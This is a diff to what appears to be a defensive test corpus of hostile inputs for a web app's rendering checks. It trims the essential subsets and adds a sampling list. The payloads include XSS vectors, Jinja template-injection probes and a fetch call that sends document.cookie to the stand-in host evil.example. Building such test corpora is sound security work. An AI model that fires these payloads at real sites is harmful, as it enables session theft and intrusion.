@@ -2,9 +2,10 @@
 
 Each payload is `Payload(group, text, evaluated)`. `evaluated` lists what the text would become
 if something ran it as a template (it must never appear where the text is shown); most payloads
-have none. The groups follow the issue's list; `ESSENTIAL` picks a few from each group that
-break out of every context a template puts text in (element text, quoted attribute, textarea,
-title, URL, JSON, mail), for places that are too slow to visit with the whole corpus.
+have none. The groups follow the issue's list. `ESSENTIAL` picks about one from each group,
+among them those that break out of each context a template puts text in (element text, quoted
+attribute, textarea, title, URL): they are read in every place that shows a field. `SAMPLE`
+adds every third of the others short enough to share a line, for one-line fields.
 
 Sinks: `alert`, `confirm` and `prompt` (hooked in the browser), requests to `evil.example`
 (another origin; the browser suite counts those), and `window.__hostile` assignments.
@@ -49,7 +50,7 @@ SCRIPT = _group(
     "<script>document.write('<img src=//evil.example/w>')</script>",
     "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
     "<script\n>alert(11)</script\n>",
-    essential=(0, 10),
+    essential=(0,),
 )
 
 # Event-handler attributes on elements a cleaner might keep, and on ones it must drop.
@@ -80,7 +81,7 @@ HANDLERS = _group(
     "<image src=x onerror=alert(23)>",
     "<iframe onload=alert(24)></iframe>",
     "<object data=x onerror=alert(25)></object>",
-    essential=(0, 3, 6),
+    essential=(0,),
 )
 
 # javascript:, data: and vbscript: addresses: plain, mixed case, entity- and percent-encoded,
@@ -123,7 +124,7 @@ URLS = _group(
     "<a href=\"&#0;javascript:alert(31)\">link</a>",
     "<a href=\"\x01javascript:alert(32)\">link</a>",
     "<a href=\"javascript\x00:alert(33)\">link</a>",
-    essential=(0, 14, 17),
+    essential=(0, 14),
 )
 
 # SVG and MathML: foreign content parses differently, the root of many sanitiser bypasses.
@@ -142,7 +143,7 @@ FOREIGN = _group(
     "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(11)'/></svg>#x\"/></svg>",
     "<svg><![CDATA[><img src=x onerror=alert(12)>]]></svg>",
     "<math><mi xlink:href=\"data:x,<script>alert(13)</script>\">mi</mi></math>",
-    essential=(0, 7),
+    essential=(0,),
 )
 
 # Broken, nested and comment markup: mutation XSS lives where parsers disagree.
@@ -175,7 +176,7 @@ BROKEN = _group(
     "<object data=\"javascript:alert(23)\">",
     "<link rel=import href=https://evil.example/i.html>",
     "<frameset onload=alert(24)>",
-    essential=(1, 16, 17, 18),
+    essential=(16,),
 )
 
 # Markdown's own constructs: links, images, autolinks, references, titles, mentions, tables.
@@ -221,14 +222,14 @@ MARKDOWN = _group(
     "*[x](javascript:alert(34))*",
     "\\<script>alert(35)\\</script>",
     "&lt;img src=x onerror=alert(36)&gt;",
-    essential=(0, 6, 14, 30),
+    essential=(0, 30),
 )
 
 # Template syntax of Jinja and its neighbours: it must show as typed, never be evaluated.
 TEMPLATE = [
     Payload("template", "{{ 8191*8191 }}", ("67092481",), essential=True),
     Payload("template", "{{7*'7'}}", ("7777777",)),
-    Payload("template", "{% for i in range(3) %}zq{{ i }}{% endfor %}", ("zq0zq1zq2",), essential=True),
+    Payload("template", "{% for i in range(3) %}zq{{ i }}{% endfor %}", ("zq0zq1zq2",)),
     Payload("template", "{{ config.items() }}", ("dict_items", "SECRET_KEY")),
     Payload("template", "{{ ''.__class__.__mro__ }}", ("<class 'object'>",)),
     Payload("template", "{{ request.environ }}", ("wsgi.",)),
@@ -260,7 +261,7 @@ CSS = _group(
     "<p style=\"color:red;background:u\\72l(https://evil.example/e.png)\">escaped</p>",
     "<font face=\"x\" color=red style=\"font-size:999px\">huge</font>",
     "<p class=\"nhsuk-header community-flash\" id=maincontent>class and id</p>",
-    essential=(0, 11),
+    essential=(0,),
 )
 
 # Breaking out of whatever surrounds the text in a template, a script or JSON.
@@ -287,7 +288,7 @@ CONTEXT = _group(
     "name\nX-Injected: yes",
     "?next=https://evil.example&x=<script>alert(18)</script>",
     "a &amp b &lt c &gt d &#0 &#xD800; &#x110000; &notanentity;",
-    essential=(0, 1, 2, 3, 6, 7, 13, 17),
+    essential=(0, 1, 2),
 )
 
 # Unicode: confusables, direction overrides, invisible and combining characters, long text.
@@ -319,7 +320,7 @@ UNICODE = _group(
     "*" * 3000 + "emphasis" + "_" * 3000,
     ("a " * 20000).strip(),
     "\ufffd\ufffe\uffff replacement and noncharacters",
-    essential=(0, 6, 8),
+    essential=(6,),
 )
 
 CORPUS: list[Payload] = [*SCRIPT, *HANDLERS, *URLS, *FOREIGN, *BROKEN, *MARKDOWN, *TEMPLATE, *CSS,
@@ -329,4 +330,7 @@ for _payload in CORPUS:
     _INDEX.setdefault(_payload, sum(p.group == _payload.group for p in _INDEX) + 1)
 
 ESSENTIAL: list[Payload] = [p for p in CORPUS if p.essential]
+# For one-line fields, where each place is read for a few payloads at a time: the essential ones
+# and every third other payload short enough to share a line (GUARD_RAILS_FULL=1: all of them).
+SAMPLE: list[Payload] = ESSENTIAL + [p for p in CORPUS if not p.essential and len(p.text) <= 80][::3]
 GROUPS = sorted({p.group for p in CORPUS})
